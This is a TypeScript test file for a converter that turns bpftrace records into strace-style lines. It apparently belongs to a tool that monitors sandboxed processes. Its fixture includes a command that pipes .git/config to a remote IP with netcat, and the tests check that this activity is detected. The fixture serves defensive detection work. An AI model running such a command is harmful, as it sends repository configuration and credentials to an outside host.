import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildBehaviour } from '../build-behaviour.ts';
import { BpfTraceConverter } from './bpf-trace-converter.ts';

const N = '4242';

function convert(raw: string[]): string[] {
  const c = new BpfTraceConverter();
  const out: string[] = [];
  for (const line of raw) out.push(...c.push(line));
  out.push(...c.finish());
  return out;
}

// ns 1000000000 is epoch 100.5; the root (pid 10) runs the runner, which forks 11 (out of CPU order).
const RAW = [
  `${N} R 1000000000 100 500000`,
  `${N} K`,
  `${N} S 10 python3`,
  `${N} S 10 /runner.py`,
  `${N} E 1000001000 10 10 2 /usr/bin/python3`,
  `${N} S 11 sh`,
  `${N} S 11 -c`,
  `${N} S 11 cat .git/config | nc 1.2.3.4 5566`,
  `${N} E 1000003000 11 11 3 /bin/sh`,
  `${N} F 1000002000 10 10 11 17`,
  `${N} Y 1000004000 11 11 257 3 -100 0 0 0 .git/co`,
  'nfig',
  `${N} Y 1000005000 11 11 41 4 2 1 0 0 `,
  `${N} A 11 2 48661 4030201 0 `,
  `${N} Y 1000006000 11 11 42 -115 4 0 16 0 `,
  `${N} A 11 10 13568 0 100000000000000 `,
  `${N} D 11 3 hi\\x0a`,
  `${N} Y 1000007000 11 11 44 3 5 0 3 0 `,
  `${N} S 11 old`,
  `${N} Y 1000007500 11 11 316 0 -100 0 -100 0 new`,
  `${N} Y 1000008000 11 11 62 -1 1 9 0 0 `,
  `${N} X 1000009000 11 11 9`,
  `${N} X 1000010000 10 10 256`,
  `${N} Z`,
  '',
  '',
];

test('renders records as strace lines in time order, with epoch timestamps', () => {
  const lines = convert(RAW);
  assert.equal(
    lines[0],
    '10 100.500001 execve("/usr/bin/python3", ["python3", "/runner.py"], 0x0 /* 0 vars */) = 0',
  );
  assert.match(lines[1] ?? '', /^10 100\.500002 clone\(child_stack=NULL, flags=SIGCHLD\) = 11$/);
  assert.ok(lines.includes('11 100.500004 openat(AT_FDCWD, ".git/co\\x0anfig", O_RDONLY) = 3'));
  assert.ok(lines.includes('11 100.500009 +++ killed by SIGKILL +++'));
  assert.ok(lines.includes('10 100.500010 +++ exited with 1 +++'));
  assert.equal(lines.length, 11);
});

test('feeds the strace behaviour builder: commands, files, connects, sends, kills, renames', () => {
  const b = buildBehaviour(convert(RAW), { runnerPath: '/runner.py', initialCwd: '/work', startTime: 100 });
  assert.equal(b.rootPid, 10);
  assert.deepEqual(
    b.commands.map((c) => c.argv),
    [['sh', '-c', 'cat .git/config | nc 1.2.3.4 5566']],
  );
  assert.ok(b.files.some((f) => f.path === '/work/.git/co\nnfig' && f.ops.includes('read')));
  assert.ok(b.files.some((f) => f.path === '/work/new' && f.flags.includes('renamed-from:/work/old')));
  assert.deepEqual(
    b.connects.map((c) => [c.ip, c.port, c.protocol, c.result]),
    [
      ['1.2.3.4', 5566, 'tcp', 'EINPROGRESS'],
      ['::1', 53, 'udp', 'ok'],
    ],
  );
  assert.equal(b.sends[0]?.preview, 'hi\\x0a');
  assert.deepEqual(
    b.kills.map((k) => [k.target, k.signal, k.result]),
    [[1, 'SIGKILL', 'EPERM']],
  );
  assert.equal(b.stats.unparsed, 0);
});

test('a forged record inside a string cannot pass for an event: lines must start with the nonce', () => {
  const lines = convert([
    `${N} R 1000000000 100 0`,
    `${N} Y 1000004000 11 11 257 3 -100 0 0 0 /tmp/x`,
    '9999 Y 1000005000 11 11 42 0 3 0 16 0 ',
    `${N} Z`,
  ]);
  assert.deepEqual(lines, [
    '11 100.000004 openat(AT_FDCWD, "/tmp/x\\x0a9999 Y 1000005000 11 11 42 0 3 0 16 0 ", O_RDONLY) = 3',
  ]);
});

test('a trace without its time reference or with lost events says so in unparsable lines', () => {
  assert.match(convert([])[0] ?? '', /no time reference/);
  assert.deepEqual(convert([`${N} R 1 1 0`, 'Lost 12 events']), ['bpftrace: lost 12 events']);
});

test('a #! script shows the argv its caller passed (path for argv[0]), not the interpreter the kernel put in', () => {
  const lines = convert([
    `${N} R 1000000000 100 0`,
    `${N} S 12 /bin/sh`,
    `${N} S 12 /usr/bin/lsb_release`,
    `${N} S 12 -a`,
    `${N} E 1000001000 12 12 3 /usr/bin/lsb_release`,
    `${N} S 13 /usr/bin/env`,
    `${N} S 13 python3`,
    `${N} S 13 ./tool.py`,
    `${N} S 13 --x`,
    `${N} E 1000002000 13 13 4 ./tool.py`,
    `${N} S 14 python3`,
    `${N} S 14 ./tool.py`,
    `${N} E 1000003000 14 14 2 /usr/bin/python3`,
  ]);
  assert.deepEqual(lines, [
    '12 100.000001 execve("/usr/bin/lsb_release", ["/usr/bin/lsb_release", "-a"], 0x0 /* 0 vars */) = 0',
    '13 100.000002 execve("./tool.py", ["./tool.py", "--x"], 0x0 /* 0 vars */) = 0',
    '14 100.000003 execve("/usr/bin/python3", ["python3", "./tool.py"], 0x0 /* 0 vars */) = 0',
  ]);
});
